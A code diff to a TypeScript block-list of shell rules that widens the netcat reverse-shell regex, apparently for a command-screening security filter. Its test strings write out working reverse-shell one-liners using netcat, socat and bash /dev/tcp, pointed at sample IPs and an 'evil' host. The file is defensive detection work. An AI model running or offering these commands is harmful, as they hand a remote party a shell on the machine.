@@ -10,8 +10,9 @@ const PS = "persistence";
 
 export const EXECUTION_RULES: ShellRuleSpec[] = [
   { id: "shell.exec.netcat-exec", description: "network tool that hands a shell to the remote side", taxonomy: `${UX}/remote-code/reverse-shell`, decision: "block", intent: "code-execute", exe: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "busybox", "telnet"],
-    pattern: `(?:(?:^| )-[a-zA-Z]{0,4}[ec] ?(?:/[^ ]{0,40}/)?(?:ba|z|da|k)?sh|--(?:exec|sh-exec|lua-exec)|(?:exec|system):[^ ]{0,80}(?:sh|bash|cmd|python|perl))`,
-    mustMatch: ["nc -e /bin/sh 10.0.0.1 4444", "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444"], mustNotMatch: ["nc -zv host 443", "socat - tcp:host:80"] },
+    // `-e PROGRAM` binds any program to the socket: a path or a globbed path (`/???/b??h`) is enough.
+    pattern: `(?:(?:^| )-[a-zA-Z]{0,4}[ec] ?(?:/[^ ]{0,40}/)?(?:ba|z|da|k)?sh|(?:^| )-[a-zA-Z]{0,4}e ?(?:/|\\./|~/)[^ ]{1,120}|--(?:exec|sh-exec|lua-exec)|(?:exec|system):[^ ]{0,80}(?:sh|bash|cmd|python|perl))`,
+    mustMatch: ["nc -e /bin/sh 10.0.0.1 4444", "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444", "nc -e /???/b??h 203.0.113.9 9001", "ncat -e ./payload 203.0.113.9 9001"], mustNotMatch: ["nc -zv host 443", "socat - tcp:host:80", "nc -c -e db.example.com db.example.com 5432"] },
   { id: "shell.exec.dev-tcp", keywords: ["/dev/tcp/", "/dev/udp/"], description: "shell I/O wired to a raw TCP/UDP socket", taxonomy: `${UX}/remote-code/reverse-shell`, decision: "block", intent: "network-egress",
     pattern: `(?:^| )[<>&]{1,3} ?/dev/(?:tcp|udp)/[^ ]{1,200}`, mustMatch: ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 3<>/dev/tcp/evil/80"], mustNotMatch: ["echo /dev/tcp is a bash feature"] },
   { id: "shell.exec.interpreter-reverse-shell", description: "interpreter code that connects a socket to a shell", taxonomy: `${UX}/remote-code/reverse-shell`, decision: "block", intent: "code-execute", exe: ["python", "perl", "ruby", "php", "node", "lua", "awk", "gawk", "pwsh", "powershell"],
